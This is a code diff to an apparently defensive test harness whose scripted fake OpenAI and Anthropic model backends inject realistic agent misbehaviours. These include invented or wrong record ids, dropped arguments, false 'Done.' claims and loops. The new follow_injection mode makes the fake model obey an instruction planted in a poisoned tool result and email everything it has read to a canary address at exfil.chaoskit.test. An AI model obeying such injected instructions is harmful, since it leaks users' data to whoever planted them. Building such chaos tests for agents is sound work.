@@ -7,6 +7,25 @@ a world, its chat calls reach :class:`OpenAIModel` (``POST /v1/chat/completions`
 that turn the way real models go wrong. Every completion lands in the ledger as
 ``model.completion`` (with tokens and USD), every applied misbehaviour as ``model.misbehaved``.
 
+Misbehaviours (:data:`MISBEHAVIOURS`), each applied to the scripted turn about to be played;
+one that cannot apply changes nothing and is not recorded:
+
+* ``repeat_write`` — the previous turn's tool calls again, before the scripted turn (still to come).
+* ``duplicate_call`` — the first tool call twice in the turn.
+* ``invented_id`` — the first id-looking argument (``ch_…``) replaced by a made-up one.
+* ``malformed_arguments`` — the first tool call's arguments cut short of their closing ``}``.
+* ``missing_arguments`` — the first tool call without one of its arguments (the last one).
+* ``unknown_tool`` — the first tool call renamed to a tool the request does not offer.
+* ``wrong_record`` — the first id-looking argument replaced by another real id of the same
+  kind that the tool results showed (another order's charge); none there, no change.
+* ``tracking_number_for_id`` — an ``order_id`` argument replaced by a tracking number
+  (``1Z…``): a real one from the tool results, else one shaped like it.
+* ``follow_injection`` — when the latest tool results carry an instruction to email an
+  address at ``exfil.chaoskit.test`` (a ``poisoned_document`` fault's canary) and the request
+  offers ``send_email``, the turn also emails that address what the model has read.
+* ``claim_success`` — a final "Done." instead of the turn, and the conversation ends.
+* ``loop`` — the turn played without moving on: the next call plays it again.
+
 Conventions (the same for both providers unless said):
 
 * **Tool errors.** The tool results answering the model's last turn count as an error when any
@@ -14,6 +33,10 @@ Conventions (the same for both providers unless said):
   after the last assistant message. Anthropic: the ``tool_result`` blocks of the last user
   message, which also count as an error when flagged ``is_error: true``. A turn with
   ``on_error`` then replies with that text and the conversation ends.
+* **What the model has read.** The text of every tool result in the request (the same messages
+  and blocks as above, from the whole conversation), and of the latest ones apart: where
+  ``wrong_record`` and ``tracking_number_for_id`` find real values, and where
+  ``follow_injection`` finds an instruction.
 * **Tokens.** About four characters a token, rounded up: the prompt is the request's
   ``system``, ``messages`` and ``tools`` as compact JSON with sorted keys; the completion is the
   reply text, or each tool call's name and arguments. Deterministic, never zero.
@@ -56,11 +79,15 @@ Provider = Literal["openai", "anthropic"]
 MISBEHAVIOURS: tuple[str, ...] = (
     "claim_success",
     "duplicate_call",
+    "follow_injection",
     "invented_id",
     "loop",
     "malformed_arguments",
+    "missing_arguments",
     "repeat_write",
+    "tracking_number_for_id",
     "unknown_tool",
+    "wrong_record",
 )
 
 #: USD per million (input, output) tokens; list prices at the time of writing, for budgets.
@@ -83,6 +110,10 @@ _PLACEHOLDER = re.compile(r"\{([A-Za-z_][A-Za-z0-9_]*)\}")
 # Looks like a resource id: a short lowercase prefix, an underscore, then an opaque tail.
 _ID_LIKE = re.compile(r"^(?P<prefix>[a-z]{1,12})_(?P<tail>[A-Za-z0-9]{3,})$")
 _CHARS_PER_TOKEN = 4
+# A UPS-style tracking number, what a model confuses with an order id.
+_TRACKING = re.compile(r"\b1Z[A-Z0-9]{8,}\b")
+# An address a poisoned document asks the model to write to (chaoskit's canary domain).
+_INJECTED_ADDRESS = re.compile(r"[A-Za-z0-9._%+-]+@exfil\.chaoskit\.test\b", re.IGNORECASE)
 
 
 # -- the script ----------------------------------------------------------------------------------
@@ -222,6 +253,10 @@ class _Incoming:
     prompt_tokens: int
     stream: bool
     raw: Mapping[str, Any]
+    #: The text of the tool results answering the model's last turn.
+    latest: str = ""
+    #: The text of every tool result in the conversation.
+    read: str = ""
 
 
 @dataclass(slots=True)
@@ -261,13 +296,15 @@ def _completion_tokens(plan: _Plan) -> int:
 
 
 def _misbehave(
-    name: str, plan: _Plan, previous: tuple[_Call, ...], tools: tuple[str, ...]
+    name: str, plan: _Plan, previous: tuple[_Call, ...], incoming: _Incoming
 ) -> _Plan | None:
     """The plan transformed by misbehaviour ``name``, or None where it cannot apply."""
-    calls = plan.calls
+    calls, tools = plan.calls, incoming.tools
     if name == "repeat_write":
         # An extra call slipped in before the scripted turn, which is still to come.
         return _Plan(calls=previous[-1:], advance=False) if previous else None
+    if name == "follow_injection":
+        return _follow_injection(plan, incoming)
     if not calls:
         return None
     if name == "duplicate_call":
@@ -277,6 +314,12 @@ def _misbehave(
     if name == "malformed_arguments":
         broken = replace(calls[0], raw=calls[0].text[:-1])  # an object without its "}"
         return replace(plan, calls=(broken, *calls[1:]))
+    if name == "missing_arguments":
+        return _drop_argument(plan)
+    if name == "wrong_record":
+        return _swap_id(plan, incoming.read)
+    if name == "tracking_number_for_id":
+        return _tracking_for_id(plan, incoming.read)
     if name == "unknown_tool":
         renamed = replace(calls[0], tool=_unknown_name(calls[0].tool, tools))
         return replace(plan, calls=(renamed, *calls[1:]))
@@ -287,15 +330,76 @@ def _misbehave(
     raise AssertionError(name)  # names are checked before
 
 
-def _invent_id(plan: _Plan) -> _Plan | None:
+def _with_argument(plan: _Plan, i: int, key: str, value: Any) -> _Plan:
+    call = plan.calls[i]
+    changed = replace(call, arguments={**call.arguments, key: value})
+    return replace(plan, calls=(*plan.calls[:i], changed, *plan.calls[i + 1 :]))
+
+
+def _first_id(plan: _Plan) -> tuple[int, str, re.Match[str]] | None:
+    """The first id-looking argument: which call, which key, and the id's parts."""
     for i, call in enumerate(plan.calls):
         for key, value in call.arguments.items():
             m = _ID_LIKE.match(value) if isinstance(value, str) else None
             if m is not None:
-                made_up = f"{m['prefix']}_{_made_up_tail(m['tail'])}"
-                changed = replace(call, arguments={**call.arguments, key: made_up})
-                return replace(plan, calls=(*plan.calls[:i], changed, *plan.calls[i + 1 :]))
+                return i, key, m
     return None
+
+
+def _invent_id(plan: _Plan) -> _Plan | None:
+    found = _first_id(plan)
+    if found is None:
+        return None
+    i, key, m = found
+    return _with_argument(plan, i, key, f"{m['prefix']}_{_made_up_tail(m['tail'])}")
+
+
+def _drop_argument(plan: _Plan) -> _Plan | None:
+    # The last argument: in a scripted refund, the amount after the charge.
+    first = plan.calls[0]
+    if not first.arguments:
+        return None
+    *kept, _ = first.arguments
+    changed = replace(first, arguments={k: first.arguments[k] for k in kept})
+    return replace(plan, calls=(changed, *plan.calls[1:]))
+
+
+def _swap_id(plan: _Plan, read: str) -> _Plan | None:
+    found = _first_id(plan)
+    if found is None:
+        return None
+    i, key, m = found
+    same_kind = re.compile(rf"\b{re.escape(m['prefix'])}_[A-Za-z0-9]{{3,}}\b")
+    other = next((o for o in same_kind.findall(read) if o != m.group(0)), None)
+    return None if other is None else _with_argument(plan, i, key, other)
+
+
+def _tracking_for_id(plan: _Plan, read: str) -> _Plan | None:
+    for i, call in enumerate(plan.calls):
+        value = call.arguments.get("order_id")
+        if isinstance(value, str):
+            seen = _TRACKING.search(read)
+            return _with_argument(plan, i, "order_id", seen[0] if seen else _tracking_like(value))
+    return None
+
+
+def _tracking_like(order_id: str) -> str:
+    # A 1Z number (18 characters) derived from the id, so the same id gives the same number.
+    digits = "".join(str(ord(c) % 10) for c in order_id)
+    return "1Z" + (_made_up_tail(order_id).upper() + digits)[:16].ljust(16, "0")
+
+
+def _follow_injection(plan: _Plan, incoming: _Incoming) -> _Plan | None:
+    address = _INJECTED_ADDRESS.search(incoming.latest)
+    if address is None or "send_email" not in incoming.tools:
+        return None
+    exfil = _Call(
+        "send_email",
+        {"to": address[0], "subject": "Customer list", "body": incoming.read},
+    )
+    if not plan.calls:  # instead of the scripted reply, which is still to come
+        return _Plan(calls=(exfil,), advance=False)
+    return replace(plan, calls=(*plan.calls, exfil))
 
 
 def _made_up_tail(tail: str) -> str:
@@ -414,9 +518,7 @@ class _ScriptedModel(JsonBackend):
         name = self._ask(
             ModelCall(number, self.provider, turn, turn_index, incoming.tools, incoming.tool_error)
         )
-        changed = (
-            None if name is None else _misbehave(name, plan, progress.previous, incoming.tools)
-        )
+        changed = None if name is None else _misbehave(name, plan, progress.previous, incoming)
         if changed is not None:
             plan = changed
         usage = self._account(incoming.model, incoming.prompt_tokens, _completion_tokens(plan))
@@ -626,6 +728,8 @@ class OpenAIModel(_ScriptedModel):
             _prompt_tokens(body),
             body.get("stream") is True,
             body,
+            latest=" ".join(_openai_results(messages, latest=True)),
+            read=" ".join(_openai_results(messages)),
         )
 
     def render(
@@ -665,6 +769,18 @@ class OpenAIModel(_ScriptedModel):
             "type": "function",
             "function": {"name": call.tool, "arguments": call.text},
         }
+
+
+def _openai_results(messages: list[Any], *, latest: bool = False) -> list[str]:
+    """The text of the tool messages: all of them, or those after the last assistant message."""
+    texts: list[str] = []
+    for message in reversed(messages):
+        is_tool = isinstance(message, dict) and message.get("role") == "tool"
+        if is_tool:
+            texts.append(_text_of(message.get("content")))
+        elif latest:
+            break
+    return texts[::-1]
 
 
 def _openai_tool_error(messages: list[Any]) -> bool:
@@ -775,7 +891,14 @@ class AnthropicModel(_ScriptedModel):
             if isinstance(t, dict) and isinstance(t.get("name"), str)
         )
         return _Incoming(
-            model, tools, _anthropic_tool_error(messages), _prompt_tokens(body), False, body
+            model,
+            tools,
+            _anthropic_tool_error(messages),
+            _prompt_tokens(body),
+            False,
+            body,
+            latest=" ".join(_anthropic_results(messages[-1:])),
+            read=" ".join(_anthropic_results(messages)),
         )
 
     def render(
@@ -804,6 +927,17 @@ class AnthropicModel(_ScriptedModel):
         # the raw text, which is what an agent reading `block.input["…"]` trips over.
         data: Any = call.arguments if call.raw is None else call.raw
         return {"type": "tool_use", "id": self.new_id("toolu"), "name": call.tool, "input": data}
+
+
+def _anthropic_results(messages: list[Any]) -> list[str]:
+    """The text of the ``tool_result`` blocks of ``messages``."""
+    return [
+        _text_of(block.get("content"))
+        for message in messages
+        if isinstance(message, dict) and isinstance(message.get("content"), list)
+        for block in message["content"]
+        if isinstance(block, dict) and block.get("type") == "tool_result"
+    ]
 
 
 def _anthropic_tool_error(messages: list[Any]) -> bool:
